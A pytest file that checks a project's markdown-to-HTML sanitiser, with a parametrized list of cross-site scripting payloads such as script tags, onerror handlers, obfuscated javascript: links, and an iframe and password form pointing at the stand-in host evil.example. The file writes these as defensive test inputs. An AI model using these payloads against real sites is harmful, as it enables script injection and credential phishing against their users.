import pytest

from apps.projects.markdown import html_of


def test_markdown_becomes_html():
    assert html_of("# Rules\n\n- **fix** it") == "<h1>Rules</h1>\n<ul>\n<li><strong>fix</strong> it</li>\n</ul>\n"


@pytest.mark.parametrize(
    "bomb",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<style>body{display:none}</style>",
        "<iframe src='//evil.example'></iframe>",
        "<form action='//evil.example'><input name=password></form>",
        '<p style="position:fixed" onclick="x()">hi</p>',
        "<svg><script>alert(1)</script></svg>",
    ],
)
def test_nothing_that_runs_or_asks_gets_through(bomb):
    html = html_of(bomb)
    assert not any(
        word in html
        for word in ("<script", "onerror", 'href="java', "<style", "<iframe", "<form", "<input", "onclick", "style=")
    )
